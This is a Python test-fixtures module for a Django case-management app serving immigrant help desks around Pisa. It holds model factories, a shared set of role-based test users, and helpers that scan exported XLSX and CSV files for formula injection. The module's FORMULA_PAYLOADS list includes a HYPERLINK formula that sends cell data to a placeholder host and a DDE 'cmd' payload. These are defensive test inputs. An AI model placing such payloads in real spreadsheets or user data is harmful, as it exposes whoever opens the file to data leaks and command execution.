"""Factories and the shared test actors (used by every app's tests; needs factory_boy)."""

import datetime
import io
from dataclasses import dataclass

import factory
from openpyxl import load_workbook

from crocevia.accounts.models import Membership, Profile, User
from crocevia.core.spreadsheets import looks_like_formula
from crocevia.core.text import fold
from crocevia.network.models import Comune, Desk, Organisation, Zone
from crocevia.people.models import Person

PASSWORD = "Crocevia-test-2026"


class ZoneFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Zone
        django_get_or_create = ("code",)

    code = factory.Sequence(lambda n: f"Z{n:02d}")
    name = factory.Sequence(lambda n: f"Zona {n}")


class ComuneFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Comune
        django_get_or_create = ("istat_code",)

    istat_code = factory.Sequence(lambda n: f"{900000 + n:06d}")
    name = factory.Sequence(lambda n: f"Comune {n}")
    province = "PI"
    population = 10000
    zone = factory.SubFactory(ZoneFactory)


class OrganisationFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Organisation
        django_get_or_create = ("code",)

    code = factory.Sequence(lambda n: f"ORG{n:03d}")
    name = factory.Sequence(lambda n: f"Ente {n}")
    kind = Organisation.Kind.SDS
    zone = factory.SubFactory(ZoneFactory)
    comune = None


class DeskFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Desk
        django_get_or_create = ("code",)

    code = factory.Sequence(lambda n: f"DESK{n:03d}")
    organisation = factory.SubFactory(OrganisationFactory)
    name = factory.Sequence(lambda n: f"Sportello {n}")
    level = 1
    comune = factory.SubFactory(ComuneFactory)
    opening_hours = "Lunedì 9-12"


class UserFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = User
        django_get_or_create = ("username",)
        skip_postgeneration_save = True

    username = factory.Sequence(lambda n: f"user{n}")
    first_name = "Anna"
    last_name = factory.Sequence(lambda n: f"Operatrice{n}")
    password = factory.PostGenerationMethodCall("set_password", PASSWORD)

    @factory.post_generation
    def _save(obj, create, extracted, **kwargs):
        if create:
            obj.save()


class PersonFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Person

    family_name = factory.Sequence(lambda n: f"Cognome{n}")
    given_names = "Amina"
    sex = "F"
    birth_date = datetime.date(1990, 5, 17)
    citizenship = "SN"
    birth_country = "SN"
    search_name = factory.LazyAttribute(lambda o: fold(f"{o.family_name} {o.given_names}"))


def make_member(username, organisation, profile, desks=(), **user_fields) -> User:
    user = UserFactory(username=username, **user_fields)
    membership = Membership.objects.create(user=user, organisation=organisation, profile=profile)
    if desks:
        membership.desks.set(desks)
    return user


@dataclass
class Actors:
    """The shared cast of every view test (DESIGN.md)."""

    zone: Zone
    other_zone: Zone
    pisa: Comune
    livorno: Comune
    sds: Organisation
    cpi: Organisation
    other_org: Organisation
    desk: Desk
    other_desk: Desk
    desk_operator: User
    social_worker: User
    cpi_consultant: User
    coordinator: User
    outsider: User
    monitoring_officer: User
    admin: User


def build_actors() -> Actors:
    zone = ZoneFactory(code="ZPI", name="Zona Pisana")
    other_zone = ZoneFactory(code="ZLI", name="Zona Livornese")
    pisa = ComuneFactory(
        istat_code="050026", name="Pisa", province="PI", population=90118, zone=zone
    )
    livorno = ComuneFactory(
        istat_code="049009", name="Livorno", province="LI", population=157000, zone=other_zone
    )
    sds = OrganisationFactory(
        code="SDS-PI", name="SdS Zona Pisana", kind="sds", zone=zone, comune=pisa
    )
    cpi = OrganisationFactory(code="CPI-PI", name="CPI Pisa", kind="cpi", zone=zone, comune=pisa)
    other_org = OrganisationFactory(
        code="COM-LI", name="Comune di Livorno", kind="comune", zone=other_zone, comune=livorno
    )
    desk = DeskFactory(
        code="SPI-PISA", organisation=sds, name="Sportello immigrati Pisa", comune=pisa
    )
    other_desk = DeskFactory(
        code="SPI-LIVORNO", organisation=other_org, name="Sportello Livorno", comune=livorno
    )
    admin = UserFactory(username="admin", is_staff=True, is_superuser=True)
    return Actors(
        zone=zone,
        other_zone=other_zone,
        pisa=pisa,
        livorno=livorno,
        sds=sds,
        cpi=cpi,
        other_org=other_org,
        desk=desk,
        other_desk=other_desk,
        desk_operator=make_member("sportello", sds, Profile.DESK_OPERATOR, desks=[desk]),
        social_worker=make_member("assistente", sds, Profile.SOCIAL_WORKER),
        cpi_consultant=make_member("consulente", cpi, Profile.CPI_CONSULTANT),
        coordinator=make_member("coordinatore", sds, Profile.COORDINATOR),
        outsider=make_member("esterno", other_org, Profile.DESK_OPERATOR, desks=[other_desk]),
        monitoring_officer=make_member("monitoraggio", sds, Profile.MONITORING_OFFICER),
        admin=admin,
    )


# --- formula injection (issue 15) ---------------------------------------------------------

# Texts a spreadsheet would evaluate: OWASP's examples, a tab, full-width and spaced forms.
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://example.org/x?d="&A1;"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\uff1d1+1",
    "  =1+1",
)


def workbook_texts(data: bytes) -> tuple[list[str], list[str]]:
    """(every text of an XLSX file, the cells a spreadsheet could evaluate): a cell is
    unsafe if it is a formula, or a formula-like text without the quote prefix."""
    texts, unsafe = [], []
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate} {cell.value!r}"
                if cell.data_type == "f":
                    unsafe.append(f"{where}: a formula")
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
                    if looks_like_formula(cell.value) and not cell.quotePrefix:
                        unsafe.append(f"{where}: formula-like text without quote prefix")
    return texts, unsafe


def unsafe_csv_cells(rows: list[list[str]]) -> list[str]:
    """The cells of a CSV file (as read by `csv.reader`) that a spreadsheet evaluates."""
    return [
        f"line {line}: {cell!r}"
        for line, row in enumerate(rows, start=1)
        for cell in row
        if looks_like_formula(cell)
    ]


def state_before_migration(executor, app: str, suffix: str) -> list[tuple[str, str]]:
    """The migration targets just before `app`'s migration named `*suffix` (whatever its
    number), for a test that loads data as it was and migrates it forward."""
    [name] = [n for a, n in executor.loader.disk_migrations if a == app and n.endswith(suffix)]
    migration = executor.loader.get_migration(app, name)
    return [dependency for dependency in migration.dependencies if dependency[0] == app]
